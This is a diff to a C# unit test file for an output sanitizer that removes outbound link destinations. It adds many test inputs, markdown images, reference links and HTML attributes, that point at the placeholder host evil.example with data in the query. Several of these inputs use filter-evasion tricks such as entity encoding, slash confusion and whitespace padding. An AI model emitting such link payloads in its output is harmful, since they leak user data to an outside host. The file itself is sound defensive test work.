@@ -48,14 +48,45 @@ public sealed class SafeTextTests
     [InlineData("[![a](https://evil.example/a.png)](https://evil.example/?q=data)", "[![a](#removed-link)](#removed-link)")]
     [InlineData("![x](https://evil.example/a?k=%2B1\n)", "![x](#removed-link\n)")]
     [InlineData("<img src=\"https://evil.example/a\">", "<img src=\"#removed-link\">")]
+    [InlineData("![x][r]\n\n[r]: https://evil.example/data.png", "![x][r]\n\n[r]: #removed-link")]
+    [InlineData("![r][]\n\n[r]: <https://evil.example/a b?q=data> \"title\"", "![r][]\n\n[r]: <#removed-link> \"title\"")]
+    [InlineData("![r]\n\n[r]:\n   //evil.example/data 'title'", "![r]\n\n[r]:\n   #removed-link 'title'")]
+    [InlineData("> ![r]\n>\n> [r]:\n> https://evil.example/data", "> ![r]\n>\n> [r]:\n> #removed-link")]
+    [InlineData("![x](\t      https://evil.example/data)", "![x](\t      #removed-link)")]
+    [InlineData("![x](https&colon;//evil.example/data)", "![x](#removed-link)")]
+    [InlineData("![x](https\\://evil.example/data)", "![x](#removed-link)")]
+    [InlineData("![x](https:/\\evil.example/data)", "![x](#removed-link)")]
+    [InlineData("![x](/\\evil.example/data)", "![x](#removed-link)")]
+    [InlineData("[x](<https://evil.example/a b?q=data>)", "[x](<#removed-link>)")]
+    [InlineData("[x](https://evil.example/(a)?q=data)", "[x](#removed-link)")]
+    [InlineData("[x](https://evil.example/a&quest;q=data)", "[x](#removed-link)")]
+    [InlineData("[x](https://evil.example/\\)?q=data)", "[x](#removed-link)")]
+    [InlineData("![x](\\/\\/evil.example/data)", "![x](#removed-link)")]
+    [InlineData("![x](h&#116;tps://evil.example/data)", "![x](#removed-link)")]
+    [InlineData("![x](/&sol;evil.example/data)", "![x](#removed-link)")]
+    [InlineData("see <https://evil.example/?q=data>", "see <#removed-link>")]
+    [InlineData("<img alt=x src = https://evil.example/a>", "<img alt=x src = #removed-link>")]
+    [InlineData("<img srcset='//evil.example/a 2x'>", "<img srcset='#removed-link'>")]
+    [InlineData("<a HREF=\"https://evil.example/?q=data\">", "<a HREF=\"#removed-link\">")]
     public void Apply_OutboundLink_LosesItsDestination(string text, string expected) => Assert.Equal(expected, Guarding.Output().Apply(text, new HashSet<SensitiveKind>()));
 
     [Theory]
     [InlineData("[docs](https://docs.example/page)")]
     [InlineData("[up](../README.md) and ![here](images/a.png)")]
     [InlineData("![here](images/a.png) and [docs](https://docs.example/page)")]
-    [InlineData("a[0] = b[1]; x == y")]
+    [InlineData("a[0] = b[1]; x == y; log[0]: done; [key]: // why, [INFO]: error:no, [r]: ./a.md, [s]: C:\\a, [t]: AT&T and [s]: #part")]
+    [InlineData("see <https://docs.example/page>, https://docs.example/?page=1 and (have you read [docs](https://docs.example/page)?)")]
+    [InlineData("<a href=\"https://docs.example/page\"> <img src=\"/a.png\"> ![x](data:image/png;base64,AAAA)")]
     public void Apply_HarmlessLink_Stays(string text) => Assert.Same(text, Guarding.Output().Apply(text, new HashSet<SensitiveKind>()));
+
+    /// <summary>Behind so much white space no page finds the address any more.</summary>
+    [Fact]
+    public void Apply_OutboundLinkFarBehindItsLabel_IsNoLinkAnyMore()
+    {
+        var spaces = new string(' ', 500);
+
+        Assert.StartsWith("![x](#removed-link ", Guarding.Output().Apply($"![x]({spaces}https://evil.example/data)", new HashSet<SensitiveKind>()), StringComparison.Ordinal);
+    }
 
     [Fact]
     public void Apply_HtmlEncode_LeavesNoMarkup()
